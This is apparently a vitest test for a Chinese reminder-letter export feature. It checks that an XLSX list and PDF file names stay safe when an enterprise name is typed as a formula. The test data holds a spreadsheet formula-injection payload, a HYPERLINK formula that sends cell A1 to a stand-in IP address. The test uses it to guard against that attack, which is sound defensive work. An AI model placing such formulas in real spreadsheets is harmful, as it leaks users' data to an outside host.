import { randomUUID } from 'node:crypto'
import { unzipSync } from 'fflate'
import { expect, it } from 'vitest'
import { owner, wangFang, zhouTao } from '../server/cast.ts'
import { answer, call, testApp } from '../server/http/test-app.ts'
import { batchOf, cycle, example, parcelFields, parcelRow } from '../server/rows.ts'
import { cellsIn, savedByLibreOffice } from './opened-again.ts'

it('一批催办函的清单：企业名称是公式样的文字，在 LibreOffice 里重算后仍一字不差，没有一个公式', async () => {
  const app = await testApp()
  const typed = '=HYPERLINK("http://192.0.2.1/?x="&A1,"点我")'
  await answer(app, wangFang, 'push', { body: batchOf([parcelRow(parcelFields({ ownerName: typed }))]) })
  await answer(app, zhouTao, 'issueInvitation', { body: { cycle, parcelCodes: [example] } })
  const receivers = [{ kind: 'enterprise', code: owner }]
  const batch = randomUUID()
  const body = { cycle, stage: 'filing', receivers, text: '=1+1 请抓紧完成', batch }
  await answer(app, zhouTao, 'issueLetters', { body })
  const response = await call(app, zhouTao, 'letterBatch', { query: { batch } })
  const files = unzipSync(new Uint8Array(await response.arrayBuffer()))
  const [letter = '', list = ''] = Object.keys(files)
  expect([letter.slice(-4), list]).toEqual(['.pdf', '催办函清单.xlsx'])
  // What a file name cannot hold has gone from it.
  expect(letter).not.toMatch(/[\\/:*?"<>|]/)
  const bytes = files[list] ?? new Uint8Array()
  for (const cells of [cellsIn(bytes), cellsIn(await savedByLibreOffice(bytes, 'xlsx'))]) {
    expect(cells.filter(({ formula }) => formula !== null)).toEqual([])
    expect(cells.map(({ value }) => value)).toContain(typed)
  }
})
